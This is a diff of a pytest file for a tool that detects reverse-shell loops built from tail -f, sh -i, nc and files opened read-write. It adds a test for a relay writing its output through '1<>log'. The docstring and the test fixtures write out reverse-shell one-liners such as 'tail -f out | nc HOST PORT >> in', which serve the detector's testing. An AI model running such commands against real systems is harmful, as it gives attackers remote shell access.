@@ -11,7 +11,8 @@ Found and fixed:
   it is (processes._copy_of); a pipeline segment forked by an ancestor shell still counts.
 - A SQLite database open read-write by a connected web app, by the worker feeding bash and by
   the recorder of its answers was a loop (each holder of an O_RDWR file read and wrote it): a
-  file open read-write is a store and joins nothing (pipes.read_ends).
+  file open read-write is a store, written, never followed (pipes.read_ends); `nc … 1<>log`
+  feeding `tail -f log` still closes a loop.
 
 - A shell writing its output to a file its relay follows (`tail -f in | sh -i > out 2>&1 &
   tail -f out | nc HOST PORT >> in`) was never a candidate: its stdout or stderr may now be a
@@ -19,8 +20,8 @@ Found and fixed:
 
 Recognised as they were: SEQPACKET, connected datagram and abstract-name UNIX sockets, two
 hops of UNIX sockets, a connection handed over by SCM_RIGHTS, a log renamed into tail -F's
-place. Left (strict xfail, reasons on each): a loop through a file open O_RDWR by both (the
-price of the database fix), a shell whose streams are a UNIX socket, a shell between two
+place. Left (strict xfail, reasons on each): a loop through a file its follower opens O_RDWR
+(the price of the database fix), a shell whose streams are a UNIX socket, a shell between two
 connected processes (the connection closes the loop), and, as cells, read-and-run loops over
 several lines and `nc … | sh`."""
 
@@ -270,12 +271,12 @@ while True:
 
 
 @pytest.mark.xfail(strict=True, reason=(
-    "a file open read-write (O_RDWR) is a store, not a stream (fixed in this session: a "
-    "SQLite database shared by a connected web app and the worker feeding bash was a loop, "
-    "test_a_jobs_database_shared_by_a_connected_web_app_and_a_shells_worker_is_left_alone); "
-    "tail, cat, nc and `>>` open a file for reading or writing. Telling a log followed "
-    "through O_RDWR from a database would need the reads' offsets (fdinfo's pos) to follow "
-    "the file's end over ticks"))
+    "a file open read-write (O_RDWR) counts as written, never as followed (fixed in this "
+    "session: a SQLite database shared by a connected web app and the worker feeding bash "
+    "was a loop, test_a_jobs_database_shared_by_a_connected_web_app_and_a_shells_worker_is_"
+    "left_alone); tail, cat and `<` open a file for reading. Telling a log followed through "
+    "O_RDWR from a database would need the reader's offset (fdinfo's pos) to follow the "
+    "file's end over ticks"))
 def test_a_loop_through_a_file_both_open_read_write_is_recognised(listener, tmp_path):  # noqa: F811
     """Neither O_WRONLY nor O_RDONLY: a file opened O_RDWR by the relay and by the shell's
     feeder is read and written by each."""
@@ -285,6 +286,16 @@ def test_a_loop_through_a_file_both_open_read_write_is_recognised(listener, tmp_
         f"python3 {follow} {{d}}/log | sh -i 2>&1 | python3 {relay} {{d}}/log {{port}}; : {{f}}",
         listener, tmp_path, holder="python")
     assert relays["sh -i"].startswith("python")
+    assert SHELL_LOOP in found
+
+
+def test_a_log_its_relay_opens_read_write_is_recognised(listener, tmp_path):  # noqa: F811
+    """`… | nc HOST PORT 1<>log`: nc's stdout open read-write (a store's mode) is written,
+    and `tail -f log` follows it into sh."""
+    found, relays = _reverse_shell(
+        ": > {d}/log; tail -f {d}/log | sh -i 2>&1 | nc 127.0.0.1 {port} 1<>{d}/log; : {f}",
+        listener, tmp_path)
+    assert relays["sh -i"].startswith("nc")
     assert SHELL_LOOP in found
 
 
